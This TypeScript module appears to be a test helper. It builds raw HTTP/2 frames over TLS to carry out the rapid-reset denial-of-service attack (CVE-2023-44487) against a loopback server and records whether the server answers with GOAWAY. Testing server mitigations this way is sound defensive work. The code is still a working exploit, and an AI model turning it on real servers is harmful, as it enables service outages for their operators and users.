/**
 * A rapid-reset client (CVE-2023-44487) written with raw HTTP/2 frames over TLS: each stream is a HEADERS frame for
 * `GET <path>` followed at once by RST_STREAM(CANCEL), many in one write. `node:http2`'s own client cannot do this:
 * it waits for a free stream slot before it sends a request, even one it has already reset. Loopback only.
 */
import tls from 'node:tls'

const FRAME = { headers: 0x1, rstStream: 0x3, settings: 0x4, goaway: 0x7 }
const END_STREAM_AND_HEADERS = 0x5
const ACK = 0x1
const CANCEL = 0x8

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(streamId, 5)
  return Buffer.concat([head, payload])
}

/** HPACK: `:method GET`, `:scheme https` (static table), `:path` and `:authority` as literals. */
function getHeaderBlock(path: string, authority: string): Buffer {
  const literal = (index: number, value: string) =>
    Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)])
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, authority)])
}

export type RapidResetClient = {
  /** Opens `count` streams and resets each at once, in one write. */
  burst: (count: number) => void
  /** Streams sent so far. */
  sent: () => number
  /** The error code of the server's GOAWAY, once it sent one. */
  goaway: () => number | undefined
  closed: () => boolean
  close: () => void
}

export function rapidResetClient({
  port,
  path = '/',
  localAddress,
}: {
  port: number
  path?: string
  localAddress?: string
}): Promise<RapidResetClient> {
  // localAddress is passed on to net.connect (not in the TLS option types).
  const options = { host: '127.0.0.1', port, ALPNProtocols: ['h2'], rejectUnauthorized: false, localAddress }
  const socket = tls.connect(options as tls.ConnectionOptions)
  let nextId = 1
  let goawayCode: number | undefined
  let closed = false
  let pending = Buffer.alloc(0)
  socket.on('error', () => {})
  socket.on('close', () => (closed = true))
  socket.on('data', (chunk: Buffer) => {
    pending = Buffer.concat([pending, chunk])
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3)
      if (pending.length < 9 + length) break
      const [type, flags] = [pending[3], pending[4]!]
      if (type === FRAME.settings && !(flags & ACK))
        socket.write(frame(FRAME.settings, ACK, 0, Buffer.alloc(0)))
      if (type === FRAME.goaway) goawayCode = pending.readUInt32BE(9 + 4)
      pending = pending.subarray(9 + length)
    }
  })
  const block = getHeaderBlock(path, `localhost:${port}`)
  const cancel = Buffer.alloc(4)
  cancel.writeUInt32BE(CANCEL)
  return new Promise((resolve, reject) => {
    socket.once('error', reject)
    socket.once('secureConnect', () => {
      socket.write(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'))
      socket.write(frame(FRAME.settings, 0, 0, Buffer.alloc(0)))
      resolve({
        burst(count) {
          if (closed) return
          const frames: Buffer[] = []
          for (let i = 0; i < count; i++, nextId += 2) {
            frames.push(frame(FRAME.headers, END_STREAM_AND_HEADERS, nextId, block))
            frames.push(frame(FRAME.rstStream, 0, nextId, cancel))
          }
          socket.write(Buffer.concat(frames))
        },
        sent: () => (nextId - 1) / 2,
        goaway: () => goawayCode,
        closed: () => closed,
        close: () => socket.destroy(),
      })
    })
  })
}
